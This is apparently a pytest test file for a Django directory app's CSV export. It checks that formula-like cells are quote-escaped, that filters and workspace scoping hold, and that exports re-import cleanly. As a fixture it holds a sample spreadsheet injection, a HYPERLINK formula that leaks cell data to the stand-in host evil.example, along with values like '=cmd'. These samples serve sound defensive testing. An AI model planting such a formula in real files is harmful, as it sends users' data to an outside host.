"""CSV exports of the directory, from the list page and `roundtable export`: the import engine's
columns, the page's filters, and no cell a spreadsheet would run as a formula."""

import csv
import io
from datetime import date

import pytest
from django.core.management import CommandError, call_command
from django_scopes import scope

from roundtable.core.csv_export import csv_lines, escape_cell, unescape_cell
from roundtable.ecosystem import actions
from roundtable.ecosystem.exports import (
    ORGANIZATION_COLUMNS,
    PARTNERSHIP_COLUMNS,
    PERSON_COLUMNS,
)
from roundtable.workspaces.choices import Role
from tests.conftest import add_member
from tests.ecosystem.factories import make_org, make_partner

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "cell", ["=1+2", "+49 30 1234", "-2+3", "@SUM(A1)", "|cmd", "%0A", "\tx", "\rx"]
)
def test_cells_that_start_like_a_formula_get_a_leading_quote(cell):
    assert escape_cell(cell) == "'" + cell
    assert unescape_cell(escape_cell(cell)) == cell


@pytest.mark.parametrize("cell", ["Acme", "", "1.5", "a=b", "'quoted", "O'Brien & Co"])
def test_ordinary_cells_stay_as_they_are(cell):
    assert escape_cell(cell) == cell
    assert unescape_cell(cell) == cell


def test_nul_characters_are_dropped_before_escaping():
    assert escape_cell("\0=1+2") == "'=1+2"
    assert escape_cell("Ac\0me") == "Acme"


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_a_cell_with_a_line_break_of_either_kind_stays_one_record(terminator):
    text = "".join(
        csv_lines(["name", "note"], [["\rAcme", "a\rb"], ["Beta", "x\ny"], ["Gamma", ""]],
                  lineterminator=terminator)
    )  # fmt: skip

    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "note"], ["'\rAcme", "a\rb"], ["Beta", "x\ny"], ["Gamma", ""]]


def test_none_and_numbers_become_text():
    assert list(csv_lines(["a", "b"], [[None, 3]], lineterminator="\n")) == ["a,b\n", ",3\n"]


@pytest.fixture
def directory(cast):
    ws = cast.acme
    evil = make_partner(ws, EVIL, "evil.example", description="-1+1", tier="@Gold",
                        partner_since=date(2023, 5, 1), partner_manager=cast.bob)  # fmt: skip
    actions.set_tags(evil, ["ecosystem:Shopify", "region:EMEA"])
    plain = make_org(ws, "Plain Agency", "plain.example", city="Lyon")
    actions.save_person(ws, organization=evil, first_name="+Eve", last_name="Vil",
                        email="eve@evil.example", phone="+49 30 5550")  # fmt: skip
    actions.link_partners(ws, plain, evil, kind="referral", since=date(2024, 1, 2), note="=cmd")
    return {"evil": evil, "plain": plain}


def test_page_export_streams_the_filtered_list_with_formulas_escaped(cast, alice_client, directory):
    response = alice_client.get(f"/w/{cast.acme.slug}/partners/export.csv", {"tag": "region:EMEA"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    text = b"".join(response.streaming_content).decode()
    rows = rows_of(text)
    assert text.splitlines()[0] == ",".join(ORGANIZATION_COLUMNS)
    assert len(rows) == 1
    row = rows[0]
    assert row["name"] == "'" + EVIL
    assert row["description"] == "'-1+1"
    assert row["tier"] == "'@Gold"
    assert row["website"] == "evil.example"
    assert row["status"] == "active"
    assert row["partner_manager"] == "bob@acme.example"
    assert row["partner_since"] == "2023-05-01"
    assert row["tags"] == "ecosystem:Shopify; region:EMEA"


def test_page_export_without_filters_holds_every_organization(cast, alice_client, directory):
    response = alice_client.get(f"/w/{cast.acme.slug}/partners/export.csv")
    rows = rows_of(b"".join(response.streaming_content).decode())
    assert [r["name"] for r in rows] == ["'" + EVIL, "Acme", "Plain Agency"]


def test_page_export_with_a_bad_filter_goes_back_to_the_list(cast, alice_client, directory):
    response = alice_client.get(f"/w/{cast.acme.slug}/partners/export.csv", {"tag": "x:y"})
    assert response.status_code == 302
    assert response.url.startswith(f"/w/{cast.acme.slug}/partners/?tag=x")


def test_people_page_export(cast, alice_client, directory):
    response = alice_client.get(f"/w/{cast.acme.slug}/people/export.csv")
    rows = rows_of(b"".join(response.streaming_content).decode())
    assert rows == [{
        "first_name": "'+Eve", "last_name": "Vil", "email": "eve@evil.example", "title": "",
        "city": "", "linkedin_url": "", "phone": "'+49 30 5550", "organization": "'" + EVIL,
        "organization_website": "evil.example", "external_id": "",
    }]  # fmt: skip


def export(*args) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("export", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_cli_exports_organizations_to_stdout_escaped(cast, directory):
    text, summary = export("organizations", "--workspace", "acme")
    lines = text.splitlines()
    assert lines[0] == ",".join(ORGANIZATION_COLUMNS)
    assert len(lines) == 1 + 3  # a header, then one line per organization
    evil = rows_of(text)[0]
    assert evil["name"] == "'" + EVIL
    assert not any(cell.startswith("=") for row in rows_of(text) for cell in row.values())
    assert "Exported 3 organizations of acme" in summary


def test_cli_exports_people_and_partnerships(cast, directory):
    people, _ = export("people", "--workspace", "acme")
    assert people.splitlines()[0] == ",".join(PERSON_COLUMNS)
    assert rows_of(people)[0]["first_name"] == "'+Eve"
    edges, _ = export("partnerships", "--workspace", "acme")
    assert edges.splitlines()[0] == ",".join(PARTNERSHIP_COLUMNS)
    (edge,) = rows_of(edges)
    assert {edge["organization"], edge["partner"]} == {"Plain Agency", "'" + EVIL}
    assert (edge["kind"], edge["source"], edge["since"], edge["note"]) == (
        "referral", "manual", "2024-01-02", "'=cmd",
    )  # fmt: skip


def test_cli_applies_filters_and_writes_a_file(cast, directory, tmp_path):
    target = tmp_path / "partners.csv"
    _, summary = export(
        "organizations", "--workspace", "acme", "--tag", "ecosystem:Shopify",
        "--filter", "status=active", "--out", str(target),
    )  # fmt: skip
    rows = rows_of(target.read_text(encoding="utf-8"))
    assert [r["name"] for r in rows] == ["'" + EVIL]
    assert f"to {target}" in summary
    edges, _ = export(
        "partnerships", "--workspace", "acme",
        "--filter", f"organization={directory['plain'].uuid}",
    )  # fmt: skip
    assert rows_of(edges)[0]["organization"] == "Plain Agency"


def test_cli_exports_only_the_named_workspace(cast, directory):
    make_org(cast.globex, "Globex Secret Partner", "globex-secret.example")
    text, _ = export("organizations", "--workspace", "globex")
    assert [r["name"] for r in rows_of(text)] == ["Globex", "Globex Secret Partner"]
    text, _ = export("organizations", "--workspace", "acme")
    assert "Globex" not in text


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["organizations", "--workspace", "nope"], "No workspace with the slug 'nope'."),
        (["organizations", "--workspace", "acme", "--tag", "vertical:Mining"], "vertical:Mining"),
        (["organizations", "--workspace", "acme", "--filter", "status=maybe"], "--filter status"),
        (["organizations", "--workspace", "acme", "--filter", "colour=red"], "no filter colour"),
        (["people", "--workspace", "acme", "--tag", "region:EMEA"], "no filter tag"),
        (["people", "--workspace", "acme", "--filter", "q"], "write NAME=VALUE"),
        (["people", "--workspace", "acme", "--out", "/nonexistent/dir/x.csv"], "cannot write"),
    ],
)
def test_cli_explains_bad_arguments(cast, directory, args, message):
    with pytest.raises(CommandError, match=message):
        export(*args)


def test_export_reimports_cleanly_through_the_import_engine(cast, directory, tmp_path):
    """What we export, `roundtable import` reads back into another workspace unchanged."""
    add_member(cast.globex, cast.bob, Role.PARTNER_MANAGER)  # the partner manager's seat there
    for kind in ("organizations", "people", "partnerships"):
        (tmp_path / f"{kind}.csv").write_text(export(kind, "--workspace", "acme")[0])
        err = io.StringIO()
        try:
            call_command(
                "import", kind, str(tmp_path / f"{kind}.csv"), "--workspace", "globex",
                stdout=io.StringIO(), stderr=err,
            )  # fmt: skip
        except SystemExit:
            pytest.fail(f"{kind}: {err.getvalue()}")
    with scope(workspace=cast.globex):
        from roundtable.ecosystem.models import Organization, Partnership, Person

        evil = Organization.objects.get(domain="evil.example")
        assert evil.name == EVIL
        assert evil.description == "-1+1"
        assert {t.label for t in evil.tags.all()} == {"ecosystem:Shopify", "region:EMEA"}
        assert evil.partner_manager == cast.bob
        assert evil.partner_since == date(2023, 5, 1)
        person = Person.objects.get()
        assert (person.first_name, person.phone) == ("+Eve", "+49 30 5550")
        assert Partnership.objects.get().note == "=cmd"
